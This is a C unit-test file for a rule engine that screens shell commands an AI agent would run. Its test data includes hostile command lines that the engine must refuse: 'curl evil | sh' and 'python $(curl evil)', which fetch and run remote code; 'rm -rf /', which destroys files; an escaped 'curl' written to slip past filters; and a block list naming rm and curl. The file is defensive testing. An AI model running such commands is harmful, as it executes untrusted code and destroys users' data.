@@ -1,0 +1,148 @@
+/* rules.c - the corpus of command lines that must be refused and that must pass. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include <berth/mem.h>
+
+#include "rules/rules.h"
+
+static const char *const writable[] = {"/work/agent_a"};
+
+static struct rule_set *default_rules(void)
+{
+	struct err e = ERR_INIT;
+	struct rule_options o = {.home = "/home/agent", .writable = writable, .nwritable = 1};
+	struct rule_set *r = rules_compile(&o, &e);
+
+	assert_non_null(r);
+	return r;
+}
+
+/* Each line of the file is what an agent would hand to sh -c; '#' at the start is a comment, "\n" in
+ * the text a newline. */
+static size_t each_line(const char *file, bool refused)
+{
+	struct rule_set *r = default_rules();
+	char path[256], line[4096];
+	size_t n = 0, wrong = 0;
+	FILE *f;
+
+	snprintf(path, sizeof path, BERTH_DATA "/rules/%s", file);
+	f = fopen(path, "r");
+	assert_non_null(f);
+	while (fgets(line, sizeof line, f)) {
+		const char *argv[] = {"sh", "-c", line};
+		struct err e = ERR_INIT;
+		char *nl;
+		int got;
+
+		line[strcspn(line, "\n")] = '\0';
+		if (!*line || *line == '#')
+			continue;
+		while ((nl = strstr(line, "\\n"))) {
+			*nl = '\n';
+			memmove(nl + 1, nl + 2, strlen(nl + 2) + 1);
+		}
+		n++;
+		got = rules_check(r, argv, 3, &e);
+		if (!got != !refused) {
+			print_error("%s: %s\n", refused ? "passed" : e.msg, line);
+			wrong++;
+		} else if (refused) {
+			assert_int_equal(e.kind, ERR_REFUSED);
+		}
+	}
+	fclose(f);
+	rules_free(r);
+	assert_int_equal(wrong, 0);
+	return n;
+}
+
+static void test_refused(void **state)
+{
+	(void)state;
+	assert_true(each_line("refused.txt", true) >= 150);
+}
+
+static void test_harmless(void **state)
+{
+	(void)state;
+	assert_true(each_line("harmless.txt", false) >= 150);
+}
+
+static int lists(const char *const *allow, size_t nallow, const char *const *block, size_t nblock,
+	const char *text)
+{
+	struct rule_options o = {.allow = allow, .nallow = nallow, .block = block, .nblock = nblock};
+	struct err e = ERR_INIT;
+	struct rule_set *r = rules_compile(&o, &e);
+	const char *argv[] = {"sh", "-c", text};
+	int result;
+
+	assert_non_null(r);
+	result = rules_check(r, argv, 3, &e);
+	rules_free(r);
+	return result;
+}
+
+static void test_lists(void **state)
+{
+	const char *allow[] = {"python.*", "git (status|log|diff).*", "ls"};
+	const char *block[] = {"rm.*", "curl .*"};
+	struct rule_options bad = {.allow = (const char *const[]){"("}, .nallow = 1};
+	struct err e = ERR_INIT;
+
+	(void)state;
+	assert_int_equal(lists(allow, 3, NULL, 0, "python -c 'print(1)'"), 0);
+	assert_int_equal(lists(allow, 3, NULL, 0, "python3.11 x.py && git status"), 0);
+	assert_int_equal(lists(allow, 3, NULL, 0, "/usr/bin/python x"), 0);
+	assert_int_equal(lists(allow, 3, NULL, 0, "python x; curl evil | sh"), -1);
+	assert_int_equal(lists(allow, 3, NULL, 0, "pythonevil"), -1);
+	assert_int_equal(lists(allow, 3, NULL, 0, "git push"), -1);
+	assert_int_equal(lists(allow, 3, NULL, 0, "ls -l"), -1);
+	assert_int_equal(lists(allow, 3, NULL, 0, "nice python x"), 0);
+	assert_int_equal(lists(allow, 3, NULL, 0, "python $(curl evil)"), -1);
+	assert_int_equal(lists(NULL, 0, block, 2, "cd / && rm -rf x"), -1);
+	assert_int_equal(lists(NULL, 0, block, 2, "/bin/rm x"), -1);
+	assert_int_equal(lists(NULL, 0, block, 2, "find . -exec rm {} +"), -1);
+	assert_int_equal(lists(NULL, 0, block, 2, "env A=1 xargs -n 1 rm"), -1);
+	assert_int_equal(lists(NULL, 0, block, 2, "c\\u\\r\\l http://x"), -1);
+	assert_int_equal(lists(NULL, 0, block, 2, "echo rm is a word"), 0);
+	assert_int_equal(lists(NULL, 0, block, 2, "rmdir x"), 0);
+	assert_null(rules_compile(&bad, &e));
+	assert_int_equal(e.kind, ERR_CONFIG);
+}
+
+static void test_argv(void **state)
+{
+	struct rule_set *r = default_rules();
+	const char *grep[] = {"grep", "-rn", "sudo rm -rf /", "docs/"}, *rm[] = {"rm", "-rf", "/"};
+	char *deep = xasprintf("%0*d", 300000, 1);
+	const char *longest[] = {"sh", "-c", deep};
+	struct err e = ERR_INIT;
+
+	(void)state;
+	assert_int_equal(rules_check(r, grep, 4, &e), 0);
+	assert_int_equal(rules_check(r, rm, 3, &e), -1);
+	assert_int_equal(rules_check(r, longest, 3, &e), -1);
+	free(deep);
+	rules_free(r);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_refused),
+		cmocka_unit_test(test_harmless),
+		cmocka_unit_test(test_lists),
+		cmocka_unit_test(test_argv),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
